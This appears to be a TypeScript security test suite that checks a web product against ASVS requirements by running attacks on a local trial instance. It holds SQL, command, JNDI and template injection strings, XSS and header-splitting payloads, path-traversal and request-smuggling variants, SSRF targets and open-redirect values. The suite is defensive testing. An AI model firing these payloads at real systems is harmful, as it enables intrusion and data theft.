import { setTimeout as sleep } from 'node:timers/promises'
import { paths, pathTo } from '@homeground/contracts/paths'
import { type Attack, type Measured, raw, type Shown } from './attack.ts'
import { type Document, operationsOf } from './openapi-calls.ts'
import {
  Browser,
  csrfCookie,
  jsonOf,
  newClient,
  premiumKey,
  type Received,
  sessionCookie,
  site,
  state,
  type TrialProduct,
  untilAdmitted,
} from './product.ts'

/** Counts what went wrong: `0 of 12`, with the first of it. */
function noneOf(wrong: readonly string[], count: number): Measured {
  const first = wrong.length > 0 ? `: ${wrong[0]!.slice(0, 160)}` : ''
  return { isKept: wrong.length === 0 && count > 0, measured: `${wrong.length} of ${count}${first}` }
}

const get = (product: TrialProduct, target: string, headers = {}) =>
  untilAdmitted(() => product.send({ target, headers, client: newClient() }))

async function headers(product: TrialProduct): Promise<Measured> {
  const wrong: string[] = []
  const targets = ['/', '/zip/02906', '/nothing', paths.attributes, '/api/nothing', paths.user]
  for (const target of targets) {
    const { headers } = await get(product, target, { origin: 'https://evil.example' })
    const policy = String(headers['content-security-policy'])
    const expected = {
      policy: /frame-ancestors 'none'/.test(policy) && !/script-src[^;]*'unsafe-inline'/.test(policy),
      'script-src': /(script-src|default-src) 'none'|script-src [^;]+/.test(policy),
      hsts: /max-age=\d{8}/.test(String(headers['strict-transport-security'])),
      nosniff: headers['x-content-type-options'] === 'nosniff',
      referrer: /^(no-referrer|strict-origin|same-origin)/.test(String(headers['referrer-policy'])),
      'no other origin': headers['access-control-allow-origin'] === undefined,
      'no names of programs': headers.server === undefined && headers['x-powered-by'] === undefined,
      'no shared cache of accounts':
        !target.startsWith('/api/user') || /no-store|private/.test(String(headers['cache-control'])),
    }
    for (const [name, holds] of Object.entries(expected)) if (!holds) wrong.push(`${target} ${name}`)
  }
  return noneOf(wrong, targets.length)
}

async function cookies(product: TrialProduct): Promise<Measured> {
  const browser = new Browser(product)
  const lines: string[] = []
  const { password, email } = await browser.signUp({ isConfirmed: false })
  for (const [method, target, body] of [
    ['GET', paths.quota, undefined],
    ['POST', paths.login, { email, password }],
    ['GET', paths.user, undefined],
  ] as const)
    lines.push(...((await browser.call(method, target, body)).headers['set-cookie'] ?? []))
  const wrong = lines.filter((line) => {
    const isSecure = /^__Host-[^=]+=/.test(line) && /; Secure/i.test(line) && /; SameSite=(Lax|Strict)/i.test(line)
    const isHidden = line.startsWith(csrfCookie) || /; HttpOnly/i.test(line)
    return !isSecure || !isHidden || /; Domain=/i.test(line)
  })
  return noneOf(wrong, lines.length)
}

const savePlace = pathTo(paths.savedPlace, { place: '02906' })

async function otherSites(product: TrialProduct): Promise<Measured> {
  const [victim, attacker] = [new Browser(product), new Browser(product)]
  await victim.signUp({ isConfirmed: false })
  await attacker.signUp({ isConfirmed: false })
  const cookie = [...victim.cookies].map((pair) => pair.join('=')).join('; ')
  const foreign = decodeURIComponent(attacker.cookies.get(csrfCookie)!)
  const own = decodeURIComponent(victim.cookies.get(csrfCookie)!)
  const body = JSON.stringify({ note: 'forged' })
  const planted = cookie.replace(victim.cookies.get(csrfCookie)!, attacker.cookies.get(csrfCookie)!)
  const attempts = [
    { cookie },
    { cookie, 'x-xsrf-token': '' },
    { cookie, 'x-xsrf-token': foreign },
    { cookie: planted, 'x-xsrf-token': foreign },
    { cookie, 'x-xsrf-token': `${own.slice(0, -1)}${own.endsWith('A') ? 'B' : 'A'}` },
    { cookie, 'content-type': 'text/plain', 'x-requested-with': 'XMLHttpRequest' },
    { cookie: cookie.replace(/__Host-XSRF-TOKEN=[^;]*/, ''), 'x-xsrf-token': own },
  ]
  const wrong: string[] = []
  for (const headers of attempts) {
    const request = { method: 'PUT', target: savePlace, body, client: newClient() }
    const { status } = await untilAdmitted(() =>
      product.send({
        ...request,
        headers: { origin: 'https://evil.example', 'content-type': 'application/json', ...headers },
      }),
    )
    if (status !== 419 && status !== 415) wrong.push(`${JSON.stringify(headers)} is ${status}`)
  }
  const logout = await get(product, paths.logout, { cookie })
  if (logout.status !== 419) wrong.push(`a link to log out is ${logout.status}`)
  const saved = jsonOf<unknown[]>(await victim.expect(200, 'GET', paths.savedPlaces))!
  if (saved.length > 0) wrong.push('a place was saved')
  return noneOf(wrong, attempts.length + 1)
}

async function fixedSessions(product: TrialProduct): Promise<Measured> {
  const attacker = new Browser(product)
  const account = await attacker.signUp()
  const before = attacker.cookies.get(sessionCookie)!
  const wrong: string[] = []
  for (const planted of [before, 'a'.repeat(43)]) {
    const victim = new Browser(product)
    victim.cookies.set(sessionCookie, planted)
    const { status } = await untilAdmitted(() => victim.logIn(account))
    if (status !== 200 || victim.cookies.get(sessionCookie) === planted)
      wrong.push(`login ${status} keeps a planted id`)
    const after = await get(product, paths.user, { cookie: `${sessionCookie}=${'a'.repeat(43)}` })
    if (jsonOf(after)?.id !== undefined) wrong.push('an invented id is a session')
  }
  return noneOf(wrong, 2)
}

const injections = [
  "' or '1'='1",
  "'; select pg_sleep(5); --",
  '") or 1=1 --',
  "02906' union select password_hash from account --",
  '\\',
  '%27%20or%201=1',
  '$\u007bjndi:ldap://evil.example/a}',
  '{{constructor.constructor("return 1")()}}',
  '*)(uid=*))(|(uid=*',
  '; cat /etc/passwd',
  '$(id)',
  '\r\nEVAL "return 1" 0\r\n',
] as const

async function injected(product: TrialProduct): Promise<Measured> {
  const wrong: string[] = []
  const places = [
    (text: string) => `${paths.placesSuggest}?q=${text}`,
    (text: string) => `${paths.schoolsSuggest}?q=${text}`,
    (text: string) => `${paths.search}?states=${text}`,
    (text: string) => `${paths.search}?searchArea=zip&zip=${text}&radius=5`,
    (text: string) => `${paths.zipRankings}?stat=${text}&state=${state}`,
    (text: string) => `/api/zip/${text}`,
    (text: string) => `/api/school/${text}`,
    (text: string) => `${paths.understand}?q=${text}`,
  ]
  for (const text of injections)
    for (const place of places) {
      const target = place(encodeURIComponent(text))
      const answer = await get(product, target)
      const isLeak = /syntax error|pg_\w|\bat \w+ \(|ECONN|ReplyError/.test(answer.text.replaceAll(text, ''))
      if (answer.status >= 500 || isLeak) wrong.push(`${target} is ${answer.status} ${answer.text}`)
    }
  return noneOf(wrong, injections.length * places.length)
}

async function splitResponses(product: TrialProduct): Promise<Measured> {
  const mark = '%0d%0aX-Injected:%20yes%0d%0a%0d%0a<script>alert(1337)</script>'
  const targets = [
    `/zip/${mark}`,
    `/search?q=${mark}`,
    `/research-area?states=${mark}`,
    `/login?next=${mark}`,
    `/api/zip/${mark}`,
    `${paths.attributes}?x${mark}=1`,
    `/api/unsubscribe?token=${mark}`,
    `/place/${mark}/RI`,
    '/zip/%3Cscript%3Ealert(1337)%3C%2Fscript%3E',
    '/research-area?place=%22%3E%3Cscript%3Ealert(1337)%3C%2Fscript%3E',
    '/schools/district/%3Cscript%3Ealert(1337)%3C%2Fscript%3E',
  ]
  const wrong: string[] = []
  for (const target of targets) {
    const { headers, text } = await get(product, target)
    const isPage = String(headers['content-type']).includes('html')
    if (headers['x-injected'] || (isPage && text.includes('<script>alert(1337)'))) wrong.push(target)
  }
  return noneOf(wrong, targets.length)
}

async function traversals(product: TrialProduct): Promise<Measured> {
  const files = ['etc/passwd', 'package.json', 'infra/run/package.json', '.git/config', '.data/secrets.json']
  const ways = ['../', '..%2f', '%2e%2e/', '%2e%2e%2f', '..%5c', '....//', '..%252f', '..;/', '%c0%ae%c0%ae/']
  const starts = ['/', '/assets/', '/api/', '/social/']
  const targets = [
    ...files.flatMap((file) => ways.flatMap((way) => starts.map((start) => `${start}${way.repeat(8)}${file}`))),
    ...['/.env', '/.git/config', '/package.json', '/src/server.ts', '/server.js.map', '/metrics', '/debug/pprof'],
    ...[
      '/internal/user/operator-token',
      '/internal/data-sources',
      '/api/../internal/data-sources',
      '/%69nternal/data-sources',
    ],
  ]
  const wrong: string[] = []
  for (const target of targets) {
    const { status, text } = await get(product, target)
    if (/root:.*:0:0|"@homeground\/|operatorToken|\[core\]|# HELP/.test(text)) wrong.push(`${target} is ${status}`)
    if (target.includes('internal') && status < 400) wrong.push(`${target} is ${status}`)
  }
  return noneOf(wrong, targets.length)
}

async function smuggled(product: TrialProduct): Promise<Measured> {
  const hidden = 'GET /api/quota HTTP/1.1\r\nHost: x\r\n\r\n'
  const post = (headers: string, body: string) =>
    `POST ${paths.premiumWebhook} HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n${headers}\r\n${body}`
  const requests = [
    post('Content-Length: 4\r\nTransfer-Encoding: chunked\r\n', `0\r\n\r\n${hidden}`),
    post('Transfer-Encoding: chunked\r\nContent-Length: 4\r\n', `0\r\n\r\n${hidden}`),
    post('Content-Length: 2\r\nContent-Length: 60\r\n', `{}${hidden}`),
    post('Transfer-Encoding: xchunked\r\n', `0\r\n\r\n${hidden}`),
    post('Transfer-Encoding: chunked, identity\r\n', `0\r\n\r\n${hidden}`),
    post('Transfer-Encoding : chunked\r\n', `0\r\n\r\n${hidden}`),
    post('Transfer-Encoding:\x0bchunked\r\n', `0\r\n\r\n${hidden}`),
    post('Content-Length: +2\r\n', `{}${hidden}`),
    post('Content-Length: 0x2\r\n', `{}${hidden}`),
    post('X: 1\r\n Content-Length: 2\r\n', `{}${hidden}`),
    post('Transfer-Encoding: chunked\r\n', `2;a=\n${hidden}\r\n{}\r\n0\r\n\r\n${hidden}`),
    post('Transfer-Encoding: chunked\r\n', `fffffffffffffffff\r\n${hidden}`),
    `GET /api/quota HTTP/1.1\nHost: localhost\n\n${hidden}`,
    `GET /api/attributes HTTP/1.1\r\nHost: localhost\r\nX: a\0b\r\n\r\n${hidden}`,
    `GET http://evil.example/api/quota HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n`,
  ]
  const wrong: string[] = []
  for (const request of requests) {
    const answer = await raw(product.port, request, { timeoutMs: 3000 })
    const statuses = [...(answer ?? '').matchAll(/^HTTP\/1\.1 (\d+)/gm)].map(([, status]) => status)
    if (answer === undefined || statuses.length > 1 || !/^4/.test(statuses[0] ?? '4'))
      wrong.push(`${JSON.stringify(request.slice(60, 160))} is ${statuses.join(', ') || 'left open'}`)
  }
  return noneOf(wrong, requests.length)
}

async function oversized(product: TrialProduct): Promise<Measured> {
  const long = (size: number) => 'x'.repeat(size)
  const json = { 'content-type': 'application/json' }
  const browser = new Browser(product)
  await browser.call('GET', paths.user)
  const post = (target: string, body: string) => () =>
    browser.send({ method: 'POST', target, body, headers: json, client: newClient() })
  const attempts: [expected: number, send: () => Promise<Received>][] = [
    [413, post(paths.feedbackForm, JSON.stringify({ name: 'Ann', feedback: long(3_000_000) }))],
    [413, post(paths.premiumWebhook, long(3_000_000))],
    [422, post(paths.feedbackForm, JSON.stringify({ name: 'Ann', feedback: long(5000) }))],
    [422, post(paths.login, JSON.stringify({ email: long(300), password: long(300) }))],
    [414, () => product.send({ method: 'DELETE', target: `/api/user/places/${long(300)}`, client: newClient() })],
    [431, () => product.send({ target: `/api/zips?zips=${long(20_000)}`, client: newClient() })],
    [431, () => product.send({ target: paths.attributes, headers: { x: long(20_000) }, client: newClient() })],
  ]
  const wrong: string[] = []
  for (const [index, [expected, send]] of attempts.entries()) {
    // A server may close the connection while the rest of a body is sent.
    const status = await untilAdmitted(send).then(
      (answer) => answer.status,
      (error: Error) => error.message,
    )
    if (status !== expected && !(expected === 413 && typeof status === 'string'))
      wrong.push(`${index}: ${status}, not ${expected}`)
  }
  return noneOf(wrong, attempts.length)
}

/** In short only the headers: a whole request may take twice as long. */
async function slowClients(product: TrialProduct, isShort: boolean): Promise<Measured> {
  const all = [
    'GET /api/attributes HTTP/1.1\r\nHost: localhost\r\nX-Slow: ',
    `POST ${paths.feedbackForm} HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{`,
  ]
  const begun = isShort ? all.slice(0, 1) : all
  const start = Date.now()
  const answers = await Promise.all(begun.map((text) => raw(product.port, text, { timeoutMs: 40_000 })))
  const wrong = answers.filter((answer) => answer === undefined || !/^(HTTP\/1\.1 4\d\d|$)/.test(answer))
  return {
    isKept: wrong.length === 0,
    measured: `${begun.length - wrong.length} of ${begun.length} ended after at most ${Math.round((Date.now() - start) / 1000)} s`,
  }
}

/** Another address of this machine, from which the product knows no proxy. */
const direct = '127.0.0.2'
const notTried: Measured = { isKept: true, measured: `not tried: this machine has no ${direct}` }

/** Runs an attack from an address of its own, where there is one. */
const fromElsewhere = (attack: (product: TrialProduct) => Promise<Measured>) => (product: TrialProduct) =>
  attack(product).catch((error: NodeJS.ErrnoException) => {
    if (error.code === 'EADDRNOTAVAIL') return notTried
    throw error
  })

async function manyConnections(product: TrialProduct): Promise<Measured> {
  const count = 230
  const answers = await Promise.all(
    Array.from({ length: count }, () => raw(product.port, 'GET ', { localAddress: direct, timeoutMs: 3000 })),
  )
  const refused = answers.filter((answer) => answer?.startsWith('HTTP/1.1 429')).length
  const { status } = await get(product, paths.attributes)
  return {
    isKept: refused === count - 200 && status === 200,
    measured: `${refused} of ${count} refused, others ${status}`,
  }
}

async function claimedAddresses(product: TrialProduct): Promise<Measured> {
  const statuses: string[] = []
  for (let index = 0; index < 24; index++) {
    const address = `192.0.2.${index}`
    const target = `${paths.search}?searchArea=zip&zip=02906&radius=${300 + index}&fields=population`
    const lines = [
      `GET ${target} HTTP/1.1`,
      'Host: localhost',
      `X-Forwarded-For: ${address}`,
      `Forwarded: for=${address}`,
    ]
    const text = `${[...lines, `X-Real-IP: ${address}`, 'Connection: close'].join('\r\n')}\r\n\r\n`
    let status = '503'
    for (let tries = 0; status === '503' && tries < 30; tries++, await sleep(20))
      status = (await raw(product.port, text, { localAddress: direct }))?.split(' ')[1] ?? ''
    statuses.push(status)
  }
  const allowed = statuses.filter((status) => status === '200').length
  return {
    isKept: allowed === 20 && statuses.at(-1) === '429',
    measured: `${allowed} of ${statuses.length} searches answered`,
  }
}

async function limits(product: TrialProduct): Promise<Measured> {
  const client = newClient()
  const wrong: string[] = []
  const browser = new Browser(product, client)
  const count = (statuses: number[], wanted: number) => statuses.filter((status) => status === wanted).length
  const logins: number[] = []
  for (let index = 0; index < 13; index++) {
    const account = { email: `nobody-${index}@mail.example`, password: 'a long sentence' }
    logins.push((await untilAdmitted(() => browser.logIn(account))).status)
  }
  if (count(logins, 429) < 3) wrong.push(`13 logins: ${logins}`)
  const pages = await Promise.all(
    Array.from(
      { length: 330 },
      async () => (await untilAdmitted(() => product.send({ target: '/nothing', client }))).status,
    ),
  )
  if (count(pages, 429) < 30) wrong.push(`330 pages: ${count(pages, 429)} refused`)
  const visitor = new Browser(product)
  await visitor.call('GET', paths.quota)
  const searches = await Promise.all(
    Array.from({ length: 60 }, async (_, index) => {
      const target = `${paths.search}?searchArea=zip&zip=02906&radius=${200 + index}&fields=population`
      return (await untilAdmitted(() => visitor.send({ target }))).status
    }),
  )
  if (count(searches, 200) !== 20) wrong.push(`60 searches at once: ${count(searches, 200)} answered`)
  return noneOf(wrong, 3)
}

async function bruteForce(product: TrialProduct): Promise<Measured> {
  const { email } = await new Browser(product).signUp()
  const statuses: number[] = []
  const startedAt = performance.now()
  for (let index = 0; index < 12; index++) {
    // A browser that the account does not know, from one address.
    const account = { email, password: `wrong number ${index}` }
    statuses.push((await untilAdmitted(() => new Browser(product, '10.255.0.1').logIn(account))).status)
  }
  const seconds = (performance.now() - startedAt) / 1000
  const tried = statuses.filter((status) => status === 401).length
  // After five, the waits are 1, 2, 4, … seconds: n of them take 2^n - 1 seconds together.
  const most = 5 + Math.floor(Math.log2(seconds + 1))
  return {
    isKept: tried <= most && tried > 0 && tried < statuses.length,
    measured: `${tried} of ${statuses.length} guesses tried in ${seconds.toFixed(1)} s`,
  }
}

async function enumeration(product: TrialProduct): Promise<Measured> {
  const { email } = await new Browser(product).signUp()
  const unknown = email.replace('@', '-unknown@')
  const wrong: string[] = []
  const shapeOf = ({ status, text }: Received) => {
    const body = (jsonOf({ text } as Received) ?? {}) as Record<string, unknown>
    return JSON.stringify([status, { ...body, requestId: '', id: '', email: '' }])
  }
  for (const [target, more] of [
    [paths.login, { password: 'a wrong sentence' }],
    [paths.forgotPassword, {}],
    [paths.register, { password: 'a sentence of my own' }],
  ] as const) {
    const [known, other] = [email, unknown].map((each) =>
      untilAdmitted(() => new Browser(product).call('POST', target, { email: each, ...more })),
    )
    const answers = [shapeOf(await known!), shapeOf(await other!)]
    if (answers[0] !== answers[1]) wrong.push(`${target}: ${answers.join(' and ')}`)
  }
  return noneOf(wrong, 3)
}

async function hostsInMails(product: TrialProduct): Promise<Measured> {
  const browser = new Browser(product)
  const { email } = await browser.signUp()
  const headers = { host: 'evil.example', 'x-forwarded-host': 'evil.example', 'x-forwarded-proto': 'https' }
  await untilAdmitted(() => browser.call('POST', paths.forgotPassword, { email }, headers))
  const mail = await product.mailTo(email, /\/reset-password\?token=/)
  const links = mail.match(/https?:\/\/\S+/g) ?? []
  return noneOf(
    links.filter((link) => !link.startsWith(`${site.url}/`)),
    links.length,
  )
}

async function redirects(product: TrialProduct): Promise<Measured> {
  const evil = [
    '//evil.example',
    '/\\evil.example',
    '/%5cevil.example',
    '/%2f%2fevil.example',
    '///evil.example/%2e%2e',
  ]
  const targets = [
    ...evil,
    ...['/login?next=', '/api/docs?url=', '/api/unsubscribe?token=', '/?redirect='].map(
      (start) => `${start}https://evil.example`,
    ),
    '/api/newsletter/unsubscribe?token=//evil.example',
  ]
  const wrong: string[] = []
  for (const target of targets) {
    const { headers } = await get(product, target)
    const { location } = headers
    if (location !== undefined && new URL(location, site.url).origin !== site.url) wrong.push(`${target} → ${location}`)
  }
  return noneOf(wrong, targets.length)
}

async function privileges(product: TrialProduct): Promise<Measured> {
  const document = jsonOf<Document>(await get(product, paths.openApi))!
  const user = new Browser(product)
  const { key } = await premiumKey(product, user)
  const wrong: string[] = []
  let count = 0
  for (const { method, path, security = [] } of operationsOf(document)) {
    const allows = (name: string) => security.some((each) => name in each)
    const target = path.replaceAll(/\{\w+\}/g, '1')
    const request = { method, target, client: newClient(), ...(method !== 'GET' && { body: '{}' }) }
    const json = { 'content-type': 'application/json' }
    const attempts: [who: string, allowed: number[], headers: Record<string, unknown>][] = []
    if (allows('operatorToken')) {
      attempts.push(['a visitor', [401, 403, 419], json])
      attempts.push(['a user', [403], { ...json, ...user.headers() }])
      attempts.push(['an invented token', [401, 403], { ...json, authorization: `Bearer hgo_${'a'.repeat(43)}` }])
    }
    if (!allows('apiKey')) attempts.push(['a key', [401, 403, 419], { ...json, authorization: `Bearer ${key}` }])
    for (const [who, allowed, headers] of attempts) {
      count++
      const answer = await untilAdmitted(() => product.send({ ...request, headers: headers as Record<string, string> }))
      const isNothing = target === paths.user && method === 'GET' && jsonOf(answer)?.id === undefined
      if (!allowed.includes(answer.status) && !isNothing) wrong.push(`${method} ${path} as ${who} is ${answer.status}`)
    }
  }
  return noneOf(wrong, count)
}

async function othersData(product: TrialProduct): Promise<Measured> {
  const [owner, other] = [new Browser(product), new Browser(product)]
  const { account } = await premiumKey(product, owner)
  await other.signUp()
  await owner.expect(200, 'PUT', savePlace, { note: 'private' })
  await owner.expect(200, 'PUT', paths.savedSearches, { name: 'Mine', path: '/research-area?states=RI' })
  const idIn = async (target: string) => jsonOf<{ id: string }[]>(await owner.expect(200, 'GET', target))![0]!.id
  const list = jsonOf<{ id: string }>(
    await owner.expect(200, 'POST', paths.shortlists, { title: 'Mine', places: ['02906'] }),
  )!
  const ids = {
    session: await idIn(paths.sessions),
    search: await idIn(paths.savedSearches),
    key: await idIn(paths.apiKeys),
  }
  const attempts = [
    ['DELETE', pathTo(paths.session, { id: ids.session }), [404]],
    ['DELETE', pathTo(paths.savedSearch, { id: ids.search }), [204, 404]],
    ['DELETE', pathTo(paths.apiKey, { id: ids.key }), [404]],
    ['DELETE', pathTo(paths.shortlist, { id: list.id }), [403]],
    ['DELETE', savePlace, [204, 404]],
  ] as const
  const wrong: string[] = []
  for (const [method, target, allowed] of attempts) {
    const { status } = await untilAdmitted(() => other.call(method, target))
    if (!(allowed as readonly number[]).includes(status)) wrong.push(`${method} ${target} is ${status}`)
  }
  for (const target of [paths.savedPlaces, paths.savedSearches, paths.sessions, paths.apiKeys])
    if (jsonOf<unknown[]>(await owner.expect(200, 'GET', target))!.length === 0) wrong.push(`${target} is empty`)
  for (const change of [
    { role: 'operator' },
    { tier: 'premium' },
    { emailConfirmed: true },
    { id: account.email },
    { premiumUntil: '2999-01-01' },
  ]) {
    const { status } = await other.call('PATCH', paths.user, change)
    if (status !== 422) wrong.push(`${JSON.stringify(change)} is ${status}`)
  }
  const user = jsonOf<{ role: string; tier: string }>(await other.expect(200, 'GET', paths.user))!
  if (user.role !== 'user' || user.tier !== 'free') wrong.push(`${user.role}, ${user.tier}`)
  return noneOf(wrong, attempts.length + 9)
}

async function paymentsOnce(product: TrialProduct): Promise<Measured> {
  const browser = new Browser(product)
  await browser.signUp()
  const { url } = jsonOf<{ url: string }>(await browser.expect(201, 'POST', paths.premiumCheckout))!
  const target = pathTo(paths.sandboxCheckout, { checkout: url.split('/').at(-1)! })
  await Promise.all([1, 2, 3].map(() => untilAdmitted(() => browser.call('POST', target, { outcome: 'pay' }))))
  const { terms } = jsonOf<{ terms: unknown[] }>(await browser.expect(200, 'GET', paths.premium))!
  return { isKept: terms.length === 1, measured: `${terms.length} term after three payments of one purchase` }
}

async function privateSources(product: TrialProduct): Promise<Measured> {
  const addresses = [
    `http://127.0.0.1:${product.port}/`,
    'http://169.254.169.254/latest/meta-data/',
    'http://[::1]/',
    'file:///etc/passwd',
  ]
  const wrong: string[] = []
  const headers = { authorization: `Bearer ${product.operatorToken}`, 'content-type': 'application/json' }
  for (const params of [...addresses.map((url) => ({ source: 'irs', url })), { source: 'irs', file: '/etc/passwd' }]) {
    const body = JSON.stringify({ job: 'import', params })
    const added = await untilAdmitted(() =>
      product.send({ method: 'POST', target: paths.adminJobs, headers, body, client: newClient() }),
    )
    if (added.status === 422) continue
    const { id } = jsonOf<{ id: string }>(added)!
    let job: { state?: string; error?: string | null } = {}
    for (
      const end = Date.now() + 30_000;
      Date.now() < end && job.state !== 'failed' && job.state !== 'completed';
      await sleep(200)
    )
      job = jsonOf(await get(product, pathTo(paths.adminJob, { id }), headers)) ?? {}
    if (job.state !== 'failed' || !/public|folder|address|not allowed/i.test(job.error ?? ''))
      wrong.push(`${JSON.stringify(params)}: ${job.state} ${job.error}`)
  }
  return noneOf(wrong, addresses.length + 1)
}

async function tracing(product: TrialProduct): Promise<Measured> {
  const methods = ['TRACE', 'CONNECT', 'PROPFIND', 'DEBUG', 'PUT']
  const answers = await Promise.all(
    methods.map((method) =>
      raw(product.port, `${method} / HTTP/1.1\r\nHost: localhost\r\nX-Mark: echoed\r\nConnection: close\r\n\r\n`),
    ),
  )
  return noneOf(
    answers.flatMap((answer, index) => (/^HTTP\/1\.1 2|echoed/.test(answer ?? '') ? [methods[index]!] : [])),
    methods.length,
  )
}

const A = (chapter: string) => `attacks: ASVS ${chapter}`

/** The classes of the ASVS that can be tried from outside, by its chapters. */
export const requirements: readonly (Attack | Shown)[] = [
  {
    part: A('V15 slow clients'),
    promise: 'a request that does not end is ended',
    isSlow: true,
    run: (product, { isShort }) => slowClients(product, isShort),
  },
  {
    part: A('V1 injection'),
    promise: 'no text of a query, statement or command reaches an interpreter',
    run: injected,
  },
  { part: A('V1 encoding'), promise: 'no text becomes a header or a script', run: splitResponses },
  { part: A('V2 payments'), promise: 'a purchase is paid once', run: paymentsOnce },
  { part: A('V2 limits'), promise: 'forms, pages and searches have their limits', run: limits },
  { part: A('V3 headers'), promise: 'every response has the headers of its kind', run: headers },
  { part: A('V3 cookies'), promise: 'every cookie is of this host, secure and hidden from scripts', run: cookies },
  { part: A('V3 other sites'), promise: 'no other site can send a call of a user', run: otherSites },
  { part: A('V3 redirects'), promise: 'nothing redirects to another site', run: redirects },
  { part: A('V4 smuggling'), promise: 'no request hides in another', run: smuggled },
  { part: A('V4 methods'), promise: 'no method echoes or opens a tunnel', run: tracing },
  { part: A('V4 sizes'), promise: 'bodies, addresses and headers that are too long are refused', run: oversized },
  { part: A('V5 paths'), promise: 'no file outside the web and no internal call is served', run: traversals },
  {
    part: A('V6 guessing'),
    promise: 'after five wrong passwords, a client waits longer before each further one',
    run: bruteForce,
  },
  { part: A('V6 enumeration'), promise: 'responses do not show who has an account', run: enumeration },
  { part: A('V6 mails'), promise: 'links in mails have the site’s own host', run: hostsInMails },
  { part: A('V7 fixation'), promise: 'a login starts a session with an id of its own', run: fixedSessions },
  { part: A('V8 privileges'), promise: 'no call of operators or accounts is open to others', run: privileges },
  { part: A('V8 ownership'), promise: 'nobody reads, ends or promotes what belongs to others', run: othersData },
  { part: A('V13 sources'), promise: 'imports read public addresses and one folder only', run: privateSources },
  {
    part: A('V15 connections'),
    promise: 'a client has at most 200 connections',
    isAlone: true,
    run: fromElsewhere(manyConnections),
  },
  { part: A('V15 addresses'), promise: 'a client cannot claim other addresses', run: fromElsewhere(claimedAddresses) },
]
